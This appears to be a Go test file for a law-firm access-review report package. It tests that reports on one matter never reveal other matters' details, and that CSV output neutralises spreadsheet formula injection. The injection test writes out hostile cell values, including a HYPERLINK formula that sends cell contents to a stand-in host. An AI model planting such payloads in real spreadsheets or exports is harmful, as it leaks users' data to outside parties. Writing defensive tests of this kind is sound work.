package report

import (
	"bytes"
	"cmp"
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"
)

// everyForm is a report as text, CSV, JSON and HTML, one after the other.
func everyForm(t testing.TB, r *Report) string {
	t.Helper()
	var b bytes.Buffer
	if err := errors.Join(WriteText(&b, r, 0), WriteCSV(&b, r, ""), WriteJSON(&b, r), HTML(&b, r)); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestReportOfOneMatterNamesNoOther: what a lead is given to sign, or anybody is told of one matter, says nothing of the clients,
// titles, folders, people and numbers of others, behind whatever wall they are: in no form.
func TestReportOfOneMatterNamesNoOther(t *testing.T) {
	f := yearFacts(t)
	names := func(id string) []string {
		m := f.Matters[id]
		list := append([]string{id, m.Client, m.Title}, m.Folders...)
		return append(list, map[string][]string{"2026-0142": {"fan.yi", "范毅", "译通"}, "2026-0150": {"sun.li", "孙丽", "partners"}}[id]...)
	}
	for id := range f.Matters {
		for _, c := range [][]string{{"access-review", "quarter", "2026Q3", "matter", id}, {"access-review", "quarter", "2026Q4", "matter", id},
			{"access-at", "date", "2026-09-02", "matter", id}, {"access-at", "date", "2026-11-22T10:00:00+08:00", "matter", id}} {
			text := everyForm(t, runYear(t, c[0], yearInput(t, "zh", c[1:]...)))
			if !strings.Contains(text, id) {
				t.Errorf("%v does not name its own matter", c)
			}
			for other := range f.Matters {
				for _, name := range names(other) {
					if other != id && strings.Contains(text, name) {
						t.Errorf("%v names %q of %s", c, name, other)
					}
				}
			}
		}
	}
	all := everyForm(t, runYear(t, "access-review", yearInput(t, "zh", "quarter", "2026Q3")))
	for id := range f.Matters { // the test can fail: the review of all matters names all
		for _, name := range names(id)[:3] {
			if !strings.Contains(all, name) {
				t.Errorf("the review of all matters does not name %q", name)
			}
		}
	}
}

// TestReviewOfOneLead: only their matters.
func TestReviewOfOneLead(t *testing.T) {
	r := runYear(t, "access-review", yearInput(t, "en", "quarter", "2026Q3", "lead", "li.na"))
	var ids []string
	for _, s := range r.Sections {
		if id, ok := strings.CutPrefix(s.ID, "matter-"); ok {
			ids = append(ids, id)
		}
	}
	if !slices.Equal(ids, []string{"2026-0150", "2026-0177"}) || strings.Contains(everyForm(t, r), "C0091") {
		t.Errorf("matters %q", ids)
	}
}

// TestFactsCannotInjectFormulas: whoever may write a policy gives titles and names; a table must not run them.
func TestFactsCannotInjectFormulas(t *testing.T) {
	const bad = `=HYPERLINK("http://x/"&A1)`
	for _, c := range rightsReports {
		in := yearInput(t, "en", c.params...)
		for id, m := range in.Facts.Matters {
			m.Title, m.Folders = bad, append(m.Folders, "@SUM(1)")
			in.Facts.Matters[id] = m
		}
		for login, p := range in.Facts.People {
			p.Name, p.Role, p.NDA, p.Org = bad, "+1", "-1", cmp.Or(p.Org, "")
			if p.Org != "" {
				p.Org = bad
			}
			p.Named = append(p.Named, Mention{"group", bad})
			in.Facts.People[login] = p
		}
		for i := range in.Facts.Rights {
			in.Facts.Rights[i].Rule = "=1+1"
		}
		var b bytes.Buffer
		if err := WriteCSV(&b, runYear(t, c.name, in), ""); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&b)
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := 0
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: the cell %q is run", c.file, cell)
				}
				if strings.Contains(cell, "HYPERLINK") {
					seen++
				}
			}
		}
		if seen == 0 {
			t.Errorf("%s: the injected text is nowhere, so this shows nothing", c.file)
		}
	}
}
